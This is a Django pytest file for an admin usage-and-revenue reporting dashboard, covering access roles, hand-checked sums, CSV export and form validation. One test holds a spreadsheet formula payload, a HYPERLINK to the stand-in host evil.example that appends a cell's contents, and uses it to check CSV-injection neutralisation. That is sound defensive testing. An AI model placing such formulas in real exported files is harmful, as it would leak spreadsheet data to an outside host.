"""Admin reports: roles, figures checked against hand-computed sums, CSV export, bad input."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.urls import reverse

from controlplane.accounts.models import User
from controlplane.billing.services import credit_grant
from tests.controlplane.factories import (
    ModelFactory,
    PlanFactory,
    PriceTierFactory,
    TenantFactory,
    UserFactory,
    usage_record_settled,
)

pytestmark = pytest.mark.django_db

DAY1, DAY2 = datetime(2026, 3, 1, 9, tzinfo=UTC), datetime(2026, 3, 3, 23, 59, tzinfo=UTC)
QUERY = {"start": "2026-03-01", "end": "2026-03-03"}


@pytest.fixture
def admin(client):
    user = UserFactory(role=User.Role.ADMIN, tenant=None)
    client.force_login(user)
    return user


@pytest.fixture
def traffic():
    """Two tenants on two models; prices and token counts chosen so every sum is easy by hand.

    small: 0.002 a request, 0.50 per million tokens; large: 0.010 a request, 2.00 per million.
    """
    small = ModelFactory(
        public_name="small",
        price_tier=PriceTierFactory(
            price_per_request=Decimal("0.002"), reference_price_per_million_tokens=Decimal("0.50")
        ),
        context_length=256,
        parameter_count=1,
        gpu_memory_bytes=1,
    )
    large = ModelFactory(
        public_name="large",
        price_tier=PriceTierFactory(
            price_per_request=Decimal("0.010"), reference_price_per_million_tokens=Decimal("2.00")
        ),
        context_length=256,
        parameter_count=1,
        gpu_memory_bytes=1,
    )
    acme, bolt = TenantFactory(name="acme"), TenantFactory(name="bolt", plan=PlanFactory(included_requests_per_month=0))
    for tenant in (acme, bolt):
        credit_grant(tenant=tenant, amount=Decimal("1"))
    records = [  # tenant, model, at, status, prompt, completion, gpu seconds, prompt tokens from cache
        (acme, small, DAY1, "completed", 1000, 1000, 0.5, 0),  # 0.002, ref 2000 x 0.5e-6 = 0.001
        (acme, large, DAY1, "completed", 3000, 2000, 1.5, 2048),  # 0.010, ref 5000 x 2e-6 = 0.010
        (acme, large, DAY2, "cancelled", 10000, 10000, 2.0, 8192),  # 0.010, ref 20000 x 2e-6 = 0.040
        (bolt, small, DAY2, "completed", 100000, 100000, 4.0, 99000),  # 0.002, ref 200000 x 0.5e-6 = 0.100
        (bolt, small, DAY2, "failed", 50000, 0, 0.25, 0),  # free, left out of the reference
    ]
    for i, (tenant, model, at, status, prompt, completion, gpu, cached) in enumerate(records):
        usage_record_settled(
            request_id=f"req-{i}",
            tenant=tenant,
            model=model,
            status=status,
            prompt_tokens=prompt,
            cached_prompt_tokens=cached,
            completion_tokens=completion,
            total_latency_ms=100,
            time_to_first_token_ms=10,
            at=at,
            gpu_time_s=gpu,
        )
    # Outside the range on both sides.
    for i, at in enumerate((datetime(2026, 2, 28, 23, 59, tzinfo=UTC), datetime(2026, 3, 4, tzinfo=UTC))):
        usage_record_settled(
            request_id=f"out-{i}",
            tenant=acme,
            model=small,
            status="completed",
            prompt_tokens=1,
            completion_tokens=1,
            total_latency_ms=1,
            time_to_first_token_ms=1,
            at=at,
        )


@pytest.mark.parametrize("page", ["dashboard:reports", "dashboard:reports_csv"])
@pytest.mark.parametrize("role", [User.Role.OPERATOR, User.Role.TENANT_MEMBER])
def test_reports_are_for_admins_only(client, page, role):
    client.force_login(UserFactory(role=role, tenant=TenantFactory() if role == User.Role.TENANT_MEMBER else None))
    assert client.get(reverse(page)).status_code == 403


@pytest.mark.parametrize("page", ["dashboard:reports", "dashboard:reports_csv"])
def test_reports_send_anonymous_visitors_to_login(client, page):
    assert client.get(reverse(page)).status_code == 302


def test_default_range_is_the_last_30_days_by_tenant(client, admin):
    response = client.get(reverse("dashboard:reports"))
    form = response.context["form"]
    start, end = form.period
    assert (end - start).days == 29 and form.cleaned_data["group_by"] == "tenant"
    assert 'id="report-empty"' in response.content.decode()


def _rows(response) -> dict:
    return {row.key: row for row in response.context["rows"]}


def test_by_tenant_against_hand_computed_figures(client, admin, traffic):
    response = client.get(reverse("dashboard:reports"), {**QUERY, "group_by": "tenant"})
    rows = _rows(response)
    assert list(rows) == ["acme", "bolt"]  # by revenue, largest first
    acme, bolt = rows["acme"], rows["bolt"]
    assert (acme.requests, acme.failed, acme.revenue, acme.reference) == (3, 0, Decimal("0.022"), Decimal("0.051"))
    assert (bolt.requests, bolt.failed, bolt.revenue, bolt.reference) == (2, 1, Decimal("0.002"), Decimal("0.100"))
    assert acme.gpu_time_s == pytest.approx(4.0) and bolt.gpu_time_s == pytest.approx(4.25)
    assert (acme.prompt_tokens, acme.completion_tokens) == (14000, 13000)
    assert (acme.cached_prompt_tokens, bolt.cached_prompt_tokens) == (10240, 99000)
    assert '<td class="num" data-testid="report-cached">10240</td>' in response.content.decode()
    totals = response.context["totals"]
    assert (totals.requests, totals.revenue, totals.reference) == (5, Decimal("0.024"), Decimal("0.151"))
    assert totals.difference == Decimal("0.127")
    page = response.content.decode()
    assert 'id="report-revenue">$0.02<' in page and 'id="report-reference">$0.15<' in page
    assert "brought in $0.13 more" in page and 'id="report-chart-groups"' in page


def test_by_model_and_by_day(client, admin, traffic):
    rows = _rows(client.get(reverse("dashboard:reports"), {**QUERY, "group_by": "model"}))
    assert (rows["large"].requests, rows["large"].revenue, rows["large"].reference) == (
        2,
        Decimal("0.020"),
        Decimal("0.050"),
    )
    assert (rows["small"].requests, rows["small"].revenue, rows["small"].reference) == (
        3,
        Decimal("0.004"),
        Decimal("0.101"),
    )
    response = client.get(reverse("dashboard:reports"), {**QUERY, "group_by": "day"})
    rows = _rows(response)
    assert list(rows) == ["2026-03-01", "2026-03-03"]  # days in order; no row for a day without traffic
    assert (rows["2026-03-01"].requests, rows["2026-03-01"].revenue) == (2, Decimal("0.012"))
    assert (rows["2026-03-03"].requests, rows["2026-03-03"].revenue, rows["2026-03-03"].reference) == (
        3,
        Decimal("0.012"),
        Decimal("0.140"),
    )
    daily = response.context["requests_chart"]  # the chart has every day, zeros included
    requests = {s["label"]: s["values"] for s in daily["series"]}["Requests"]
    assert daily["days"] == ["2026-03-01", "2026-03-02", "2026-03-03"] and requests == [2, 0, 3]
    # Money in a chart of its own, the per-token reference on a scale (and axis) of its own.
    money = {s["label"]: s["scale"] for s in response.context["daily_chart"]["series"]}
    assert money == {"Revenue ($)": "$", "Per-token reference ($)": "$reference"}
    assert response.context["group_chart"] is None


def test_csv_has_the_same_rows(client, admin, traffic):
    response = client.get(reverse("dashboard:reports_csv"), {**QUERY, "group_by": "model"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="gpuserve-model-2026-03-01-to-2026-03-03.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == [
        "model",
        "requests",
        "failed",
        "revenue",
        "reference",
        "difference",
        "gpu_time_s",
        "prompt_tokens",
        "cached_prompt_tokens",
        "completion_tokens",
    ]
    assert rows[1:] == [
        ["large", "2", "0", "0.020000", "0.050000", "0.030000", "3.500", "13000", "10240", "12000"],
        ["small", "3", "1", "0.004000", "0.101000", "0.097000", "4.750", "151000", "99000", "101000"],
    ]
    page = client.get(reverse("dashboard:reports"), {**QUERY, "group_by": "model"}).content.decode()
    assert 'href="/reports/export.csv?start=2026-03-01&amp;end=2026-03-03&amp;group_by=model"' in page


def test_csv_amounts_have_six_decimal_places_whatever_the_database_summed(client, admin):
    """A tenant whose one request failed sums to no revenue (the database's 0) and one whose
    reference is a fraction of a cent: every amount reads with the ledger's six places."""
    model = ModelFactory(
        public_name="m",
        price_tier=PriceTierFactory(
            price_per_request=Decimal("0.002"), reference_price_per_million_tokens=Decimal("0.50")
        ),
    )
    for name, status, tokens in (("failing", "failed", 0), ("paying", "completed", 1726)):
        tenant = TenantFactory(name=name, plan=PlanFactory(included_requests_per_month=0))
        credit_grant(tenant=tenant, amount=Decimal("1"))
        usage_record_settled(
            request_id=f"dp-{name}",
            tenant=tenant,
            model=model,
            status=status,
            at=DAY1,
            prompt_tokens=tokens,
            completion_tokens=0,
            total_latency_ms=1,
            time_to_first_token_ms=1,
        )
    response = client.get(reverse("dashboard:reports_csv"), {**QUERY, "group_by": "tenant"})
    rows = {row[0]: row for row in csv.reader(io.StringIO(response.content.decode()))}
    assert rows["failing"][3:6] == ["0.000000", "0.000000", "0.000000"]
    assert rows["paying"][3:6] == ["0.002000", "0.000863", "-0.001137"]


@pytest.mark.parametrize(
    ("query", "field", "message"),
    [
        ({"start": "2026-03-05", "end": "2026-03-01"}, "end", "on or after the first day"),
        ({"start": "2024-01-01", "end": "2026-01-01"}, "end", "at most 366 days"),
        ({"start": "yesterday", "end": "2026-03-01"}, "start", "Enter a valid date"),
        ({"start": "2026-03-01", "end": "2026-03-02", "group_by": "planet"}, "group_by", "Select a valid choice"),
    ],
)
def test_bad_input_gets_an_error_beside_its_field(client, admin, query, field, message):
    response = client.get(reverse("dashboard:reports"), query)
    page = response.content.decode()
    start = page.index(f'id="error-{field}"')
    assert message in page[start : page.index("</div>", start)]
    assert 'id="report-table"' not in page and 'id="report-csv"' not in page
    assert client.get(reverse("dashboard:reports_csv"), query).status_code == 400


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(client, admin):
    """OWASP CSV injection: text starting with = + - @ tab or CR gets a leading ' (figures do not)."""
    names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx", "plain"]
    model = ModelFactory(public_name="m")
    for i, name in enumerate(names):
        tenant = TenantFactory(name=name)
        credit_grant(tenant=tenant, amount=Decimal("1"))
        usage_record_settled(
            request_id=f"csv-{i}",
            tenant=tenant,
            model=model,
            status="completed",
            prompt_tokens=1,
            completion_tokens=1,
            total_latency_ms=1,
            time_to_first_token_ms=1,
            at=DAY1,
        )
    response = client.get(reverse("dashboard:reports_csv"), {**QUERY, "group_by": "tenant"})
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    keys = sorted(row[0] for row in rows[1:])
    assert keys == sorted([f"'{name}" for name in names[:-1]] + ["plain"])
    assert all(not cell.startswith("'") for row in rows[1:] for cell in row[1:])


def test_by_key_names_each_tenants_keys_and_puts_playground_sessions_together(client, admin, traffic):
    from controlplane.accounts.models import ApiKey, Tenant
    from controlplane.catalog.models import Model
    from tests.controlplane.factories import ApiKeyFactory

    acme, small = Tenant.objects.get(name="acme"), Model.objects.get(public_name="small")
    prod = ApiKeyFactory(tenant=acme, name="production")
    for i, key in enumerate(
        (
            prod,
            prod,
            ApiKeyFactory(tenant=acme, purpose=ApiKey.Purpose.PLAYGROUND),
            ApiKeyFactory(tenant=acme, purpose=ApiKey.Purpose.PLAYGROUND),
        )
    ):
        usage_record_settled(request_id=f"key-{i}", tenant=acme, model=small, api_key=key, at=DAY1)
    response = client.get(reverse("dashboard:reports"), {**QUERY, "group_by": "key"})
    rows = _rows(response)
    assert (rows[f"acme · production ({prod.prefix}…)"].requests, rows["acme · Playground"].requests) == (2, 2)
    assert (rows["acme · (no key)"].requests, rows["bolt · (no key)"].requests) == (3, 2)
    assert response.context["group_chart"]["labels"] == list(rows)
    csv_rows = list(
        csv.reader(
            io.StringIO(client.get(reverse("dashboard:reports_csv"), {**QUERY, "group_by": "key"}).content.decode())
        )
    )
    assert csv_rows[0][0] == "key" and {row[0] for row in csv_rows[1:]} == set(rows)
